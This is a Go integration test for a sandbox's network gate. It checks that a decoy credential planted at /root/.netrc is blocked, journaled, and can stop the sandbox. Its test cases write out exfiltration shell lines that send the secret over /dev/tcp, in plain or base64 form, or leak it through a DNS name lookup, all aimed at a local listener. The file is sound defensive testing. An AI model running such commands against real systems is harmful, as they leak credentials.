//go:build linux && (amd64 || arm64)

package box_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/coppice-dev/coppice/client/wire"
	"github.com/coppice-dev/coppice/internal/boxtest"
	"github.com/coppice-dev/coppice/internal/fault"
	"github.com/coppice-dev/coppice/internal/journal"
	"github.com/coppice-dev/coppice/internal/plan"
)

// listener is a server on an address of this host other than loopback. It reads all that it receives; got returns the
// whole of it once every connection has ended.
func listener(t *testing.T) (at netip.AddrPort, got func() string) {
	t.Helper()
	l, err := net.Listen("tcp", netip.AddrPortFrom(outside(t).Addr(), 0).String())
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var all bytes.Buffer
	var open sync.WaitGroup
	open.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			open.Go(func() {
				defer c.Close()
				b, _ := io.ReadAll(c)
				mu.Lock()
				all.Write(b)
				mu.Unlock()
			})
		}
	})
	t.Cleanup(func() { l.Close() })
	return l.Addr().(*net.TCPAddr).AddrPort(), func() string { l.Close(); open.Wait(); return all.String() }
}

// TestHoneytoken_IsBlockedAtGate checks that a honeytoken is not sent, in a connection or in a name, that the attempt
// is reported, and that it stops the sandbox if the policy says so.
func TestHoneytoken_IsBlockedAtGate(t *testing.T) {
	t.Parallel()
	const (
		at    = "/root/.netrc"
		token = "Ab3dEf9hIjKlMn0pQrStUvWxYz01"
	)
	for _, way := range []struct{ name, sh, sent, reason string }{
		{"a plain connection", `exec 3<>/dev/tcp/%s/%d && printf '%%s\n' "PASS $1" >&3`, token, wire.DecoySent},
		{"a plain connection, in base64", `exec 3<>/dev/tcp/%s/%d && printf '%%s\n' "AUTH $1" >&3`,
			base64.StdEncoding.EncodeToString([]byte("me:" + token)), wire.DecoySent},
		{"a name", `: %s %d; getent hosts "$1.example"`, token, wire.DecoyAsked},
	} {
		for _, stops := range []bool{false, true} {
			t.Run(fmt.Sprint(way.name, ", stops ", stops), func(t *testing.T) {
				t.Parallel()
				place, got := listener(t)
				b := (boxtest.Tier{Config: supervised}).Start(t, func(c *plan.Config) {
					c.Phases = []plan.Phase{phase(t, c.Phases[0].Until, place.String())}
					c.Tokens = []plan.Token{{Path: at, Text: token}}
					if stops {
						c.OnTouch = plan.TouchStop
					}
				})
				other := b.Open(t, wire.ExecRequest{Cmd: []string{"sh", "-c", "echo up; exec sleep 1000"}})
				boxtest.WaitOutput(t, other, "up\n")
				do := fmt.Sprintf(way.sh, place.Addr(), place.Port())
				if stops {
					do += "; exec sleep 1000"
				} else {
					do += "; true"
				}
				r := b.Do(t, wire.ExecRequest{Cmd: []string{"bash", "-c", do, "bash", way.sent}})
				verdict := wire.VerdictDeny
				if stops {
					verdict = wire.VerdictStop
					for _, r := range []boxtest.Result{r, boxtest.Collect(other)} {
						if r.Exit.Code != 137 ||
							!strings.Contains(r.Exit.Message, "the sandbox was stopped: the value of a honeytoken was sent to the gate") {
							t.Errorf("%+v", r)
						}
					}
					<-b.Gone()
				} else if r.Exit.Code != 0 {
					t.Errorf("%+v", r)
				}
				fits := func(ev wire.NetEvent) bool {
					return ev.Kind == wire.NetDecoy && ev.Decoy == at && ev.Reason == way.reason && ev.Verdict == verdict
				}
				if stops { // the event is reported before the stop
					if evs, err := journal.Read(journal.Place{Dir: b.Config.Journal}, journal.Query{}); err != nil ||
						!slices.ContainsFunc(evs, fits) {
						t.Errorf("%+v, %v", evs, err)
					}
					if _, err := b.Exec(t.Context(), wire.ExecRequest{Cmd: []string{"true"}}); !fault.Is(err, fault.Unavailable) {
						t.Errorf("stop after the report: %v", err)
					}
				} else {
					told(t, b, fits)
					if r := b.Sh(t, "echo on"); r.Stdout != "on\n" {
						t.Errorf("the sandbox does not continue to run: %+v", r)
					}
					if err := b.Stop(t.Context(), 0); err != nil {
						t.Fatal(err)
					}
				}
				if s := got(); strings.Contains(s, token) || strings.Contains(s, way.sent) {
					t.Errorf("the honeytoken arrived: %q", s)
				}
			})
		}
	}
}
